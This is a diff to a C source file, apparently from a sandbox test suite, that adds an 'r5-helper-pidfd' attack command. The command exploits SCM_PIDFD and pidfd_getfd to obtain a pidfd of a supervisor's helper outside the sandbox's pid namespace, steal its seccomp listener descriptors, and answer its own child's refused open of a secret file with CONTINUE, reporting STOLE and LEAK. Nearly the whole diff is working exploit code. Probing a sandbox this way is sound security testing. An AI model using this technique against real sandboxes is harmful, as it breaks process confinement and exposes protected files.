@@ -17,6 +17,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <pthread.h>
+#include <signal.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -28,6 +29,7 @@
 #include <sys/syscall.h>
 #include <sys/un.h>
 #include <unistd.h>
+#include <sys/wait.h>
 
 #include "attack.h"
 
@@ -347,6 +349,145 @@ static int cmd_getxattr(int argc, char **argv)
 	return 0;
 }
 
+/* Linux 6.5 (Debian 12's headers lack them). */
+#define R5_SO_PASSPIDFD 76
+#define R5_SCM_PIDFD    0x04
+
+struct r5_sender {
+	int sock;
+	size_t len;
+	ssize_t sent;
+	int err;
+};
+
+/* The sendmsg the supervisor performs: its helper blocks once the buffer is full. */
+static void *r5_send_thread(void *arg)
+{
+	struct r5_sender *s = arg;
+	char *data = calloc(1, s->len);
+	struct iovec iov = { data, s->len };
+	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1 };
+
+	s->sent = data ? sendmsg(s->sock, &m, 0) : -1;
+	s->err = errno;
+	free(data);
+	return NULL;
+}
+
+/* SIGALRM: only to interrupt a RECV (no SA_RESTART). */
+static void r5_wake(int sig)
+{
+	(void)sig;
+}
+
+/* One small read of sock: the pidfd of the task that sent it (SCM_PIDFD), or -errno. */
+static int r5_sender_pidfd(int sock)
+{
+	char data[16], cbuf[CMSG_SPACE(sizeof(int)) * 4];
+	struct iovec iov = { data, sizeof(data) };
+	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf,
+			    .msg_controllen = sizeof(cbuf) };
+	int pidfd = -EBADMSG;
+
+	if (recvmsg(sock, &m, MSG_CMSG_CLOEXEC) <= 0)
+		return -errno;
+	for (struct cmsghdr *c = CMSG_FIRSTHDR(&m); c; c = CMSG_NXTHDR(&m, c))
+		if (c->cmsg_level == SOL_SOCKET && c->cmsg_type == R5_SCM_PIDFD)
+			memcpy(&pidfd, CMSG_DATA(c), sizeof(int));
+	return pidfd;
+}
+
+/* The listeners among pidfd's descriptors (pidfd_getfd), or -errno. */
+static int r5_take_listeners(int pidfd, int *fds, int max)
+{
+	int n = 0, err = 0;
+
+	for (int target = 0; target < 1024 && n < max; target++) {
+		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, target, 0);
+
+		if (fd < 0) {
+			if (errno != EBADF && !err)
+				err = errno;
+			continue;
+		}
+		if (is_listener(fd))
+			fds[n++] = fd;
+		else
+			close(fd);
+	}
+	return n > 0 ? n : -(err ? err : ENOENT);
+}
+
+/*
+ * helper-pidfd SECRET: a sendmsg on one end of a socket pair, which the
+ * supervisor performs in a helper process (a CLONE_VM child holding a
+ * copy of the supervisor's descriptors) that blocks once the buffer is
+ * full; the other end, with SO_PASSPIDFD, reads a few bytes: the kernel
+ * hands over a pidfd of the sender, the helper, outside our pid namespace.
+ * With it, pidfd_getfd takes the supervisor's listener (STOLE), and our
+ * child's refused open of SECRET is answered CONTINUE by us (LEAK).
+ */
+static int cmd_helper_pidfd(int argc, char **argv)
+{
+	int sv[2], one = 1, small = 4096, fds[64], n, pidfd, out, answered = 0;
+	struct r5_sender s = { .len = 4 << 20 };
+	char buf[512] = "";
+	pthread_t th;
+
+	if (argc != 1)
+		return 2;
+	sigaction(SIGALRM, &(struct sigaction){ .sa_handler = r5_wake }, NULL);
+	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) < 0 ||
+	    setsockopt(sv[0], SOL_SOCKET, R5_SO_PASSPIDFD, &one, sizeof(one)) < 0 ||
+	    setsockopt(sv[1], SOL_SOCKET, SO_SNDBUF, &small, sizeof(small)) < 0)
+		return setup_failed("socketpair", errno);
+	s.sock = sv[1];
+	if (pthread_create(&th, NULL, r5_send_thread, &s) != 0)
+		return setup_failed("pthread_create", EAGAIN);
+	pause_ms(500);
+	pidfd = r5_sender_pidfd(sv[0]);
+	if (pidfd < 0)
+		return setup_failed("scm-pidfd", -pidfd);
+	n = r5_take_listeners(pidfd, fds, 64);
+	if (n < 0) {
+		note("pidfd %d of the sender: pidfd_getfd refused", pidfd);
+		return blocked(-n);
+	}
+	result("STOLE %d listener(s) from the supervisor's helper", n);
+	for (int tries = 0; tries < 200 && !strstr(buf, "LEAK"); tries++) {
+		pid_t child = spawn_reader(argv[0], &out);
+		ssize_t len;
+
+		if (child < 0)
+			return setup_failed("fork", errno);
+		/*
+		 * The supervisor races us for each notification: a RECV that
+		 * lost it would wait for the next one, so each is bounded.
+		 */
+		for (int i = 0; i < 300 && waitpid(child, NULL, WNOHANG) == 0; i++) {
+			ualarm(50000, 0);
+			answer_all(fds, n, 10, -1, &answered);
+			ualarm(0, 0);
+		}
+		if (waitpid(child, NULL, WNOHANG) == 0) {
+			note("try %d: the reader is still waiting; killed", tries);
+			kill(child, SIGKILL);
+			waitpid(child, NULL, 0);
+		}
+		len = read(out, buf, sizeof(buf) - 1);
+		buf[len > 0 ? len : 0] = '\0';
+		buf[strcspn(buf, "\n")] = '\0';
+		close(out);
+	}
+	note("answered %d notification(s) ourselves", answered);
+	result("%s", *buf ? buf : "BLOCKED child-silent");
+	/* Let the helper finish: read what it sends. */
+	fcntl(sv[0], F_SETFL, O_NONBLOCK);
+	for (int i = 0; i < 2000 && read(sv[0], buf, sizeof(buf)) != 0; i++)
+		pause_ms(1);
+	return 0;
+}
+
 const struct attack_cmd attack_r5_cmds[] = {
 	{ "r5-send-fd", "SOCK DIR [opath]     (outside) hand an fd of DIR to one client", cmd_send_fd },
 	{ "r5-recv-fd", "SOCK HOW NAME [DEST] use a received dirfd: openat|procfd|linkat|renameat",
@@ -361,5 +502,7 @@ const struct attack_cmd attack_r5_cmds[] = {
 	{ "r5-open-mode3", "PATH [kvm]       open(PATH, 3); KVM_CREATE_VM on it", cmd_open_mode3 },
 	{ "r5-getxattr", "HOW PATH NAME [V] getxattr|lgetxattr|getxattrat|list|llist|listxattrat|set",
 	  cmd_getxattr },
+	{ "r5-helper-pidfd", "SECRET       SCM_PIDFD of the supervisor's send helper: its listener",
+	  cmd_helper_pidfd },
 	{ 0 },
 };
